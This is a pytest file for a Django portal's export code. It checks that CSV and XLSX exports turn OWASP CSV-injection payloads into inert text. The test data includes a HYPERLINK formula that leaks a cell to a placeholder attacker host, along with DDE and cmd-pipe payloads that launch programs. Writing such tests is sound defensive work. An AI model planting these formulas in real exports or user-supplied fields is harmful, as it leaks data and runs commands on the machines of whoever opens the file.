"""Every CSV and XLSX the portal writes is inert: the OWASP CSV-injection payloads come out as
text, never as formulas, and the exporter streams its rows."""

import csv
import io
import itertools
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from bangphlat import exports
from communities.models import ActivityType, Community
from districts.models import District
from tests.communities.factories import ActivityFactory, CommunityFactory
from tests.communities.test_import_export import run

# https://owasp.org/www-community/attacks/CSV_Injection and the payloads it links to.
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"ดูรายละเอียด")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "-1",
    "@",
]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_has_no_formula(data: bytes) -> bool:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return not any(
        b"<f>" in archive.read(name) or b"<f " in archive.read(name)
        for name in archive.namelist()
        if name.startswith("xl/worksheets/")
    )


# --- The exporter itself ---------------------------------------------------------------
@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_formula_payload_is_written_to_csv_behind_an_apostrophe(payload):
    data = b"".join(exports.ListExporter(headers=["ชื่อ"], rows=[[payload]]).iter_csv())
    assert csv_rows(data)[1] == ["'" + payload]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_formula_payload_is_a_text_cell_in_xlsx(payload):
    data = exports.ListExporter(headers=["ชื่อ"], rows=[[payload]]).xlsx_bytes()
    assert xlsx_has_no_formula(data)
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert cell.value.strip() == payload.strip()  # XML turns a leading CR into LF


def test_ordinary_values_are_written_as_they_are():
    rows = [["ชุมชนร่วมใจ", 120, -3, 13.78, None, "081-234-5678", "a=b"]]
    data = b"".join(exports.ListExporter(headers=list("abcdefg"), rows=rows).iter_csv())
    assert csv_rows(data)[1] == ["ชุมชนร่วมใจ", "120", "-3", "13.78", "", "081-234-5678", "a=b"]
    sheet = load_workbook(
        io.BytesIO(exports.ListExporter(headers=list("abcdefg"), rows=rows).xlsx_bytes())
    ).active
    assert [c.value for c in sheet[2]] == ["ชุมชนร่วมใจ", 120, -3, 13.78, None, "081-234-5678", "a=b"]


def test_csv_rows_are_streamed_one_line_at_a_time():
    """An endless iterator still gives its first lines: nothing is collected first."""
    endless = ([n, f"แถว {n}"] for n in itertools.count())
    lines = exports.ListExporter(headers=["n", "ชื่อ"], rows=endless).iter_csv()
    first = list(itertools.islice(lines, 3))
    assert first[0].startswith("\ufeff".encode())
    assert first[2] == "1,แถว 1\r\n".encode()


def test_xlsx_accepts_a_generator_of_many_rows():
    rows = ([n, f"ชุมชน {n}"] for n in range(20_000))
    buffer = io.BytesIO()
    exports.ListExporter(headers=["n", "ชื่อ"], rows=rows, sheet_title="ชุมชน").write_xlsx(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue()), read_only=True)["ชุมชน"]
    assert sum(1 for _row in sheet.iter_rows()) == 20_001


def test_a_csv_import_reads_our_apostrophe_back_off():
    from communities.io import importing

    data = b"".join(
        exports.ListExporter(headers=["ชื่อ", "ที่ตั้ง"], rows=[["=1+1", "'ซอย 5"]]).iter_csv()
    )
    header, body = importing.read_table(data, "x.csv")
    assert body[0][1] == ["=1+1", "'ซอย 5"]  # only the apostrophe we added is removed


# --- Every export of the portal ----------------------------------------------------------
@pytest.fixture
def poisoned(bangphlat, db):
    community = CommunityFactory(district=bangphlat, name='=HYPERLINK("http://x","y")')
    ActivityFactory(community=community, title="@SUM(1+9)*cmd|' /C calc'!A0")
    return community


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["communities:export", "communities:activity_export"])
def test_community_and_activity_exports_neutralise_formulas(login, staff_bangphlat, poisoned, name):
    client = login(staff_bangphlat)
    xlsx = client.get(reverse(name, args=["xlsx"])).getvalue()
    assert xlsx_has_no_formula(xlsx)
    cells = [c for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for c in row]
    formula_like = [c for c in cells if exports.is_formula_like(c.value)]
    assert formula_like and all(c.data_type == "s" for c in formula_like)
    text = client.get(reverse(name, args=["csv"])).getvalue().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(exports.is_formula_like(cell) for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") or cell.startswith("'@SUM") for cell in cells)


@pytest.mark.django_db
def test_an_exported_formula_like_name_imports_back_unchanged(login, staff_bangphlat, poisoned):
    exported = login(staff_bangphlat).get(reverse("communities:export", args=["csv"])).getvalue()
    report = run(staff_bangphlat, exported, "export.csv")
    assert report.counts == {"new": 0, "update": 0, "skip": 1, "error": 0}
    assert Community.objects.get().name == '=HYPERLINK("http://x","y")'


@pytest.mark.django_db
def test_mentoring_and_dashboard_exports_neutralise_formulas(login, strategy):
    District.objects.filter(code="1025").update(name_th="=1+1")
    client = login(strategy)
    text = client.get(reverse("mentoring:export", args=["csv"])).getvalue().decode("utf-8-sig")
    assert "'=1+1" in text
    assert xlsx_has_no_formula(client.get(reverse("mentoring:export", args=["xlsx"])).getvalue())
    dashboard = client.get(reverse("dashboard:export")).getvalue()
    assert xlsx_has_no_formula(dashboard)
    values = [
        c.value for row in load_workbook(io.BytesIO(dashboard)).active.iter_rows() for c in row
    ]
    assert "=1+1" in values


@pytest.mark.django_db
def test_the_completeness_export_neutralises_formulas_also_behind_a_tab(login, strategy):
    district = District.objects.get(code="1025")
    District.objects.filter(pk=district.pk).update(name_th="\t=1+1")
    district.zone_group.name_th = "=2+2"
    district.zone_group.save()
    data = login(strategy).get(reverse("reporting:export")).getvalue()
    assert xlsx_has_no_formula(data)
    workbook = load_workbook(io.BytesIO(data))
    values = [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert "\t=1+1" in values and "=2+2" in values  # as text, unchanged


@pytest.mark.django_db
def test_the_import_template_writes_activity_types_as_text(login, staff_bangphlat):
    ActivityType.objects.create(name_th="=cmd|' /C calc'!A0", name_en="x", order=99)
    data = login(staff_bangphlat).get(reverse("communities:import_template")).getvalue()
    assert xlsx_has_no_formula(data)
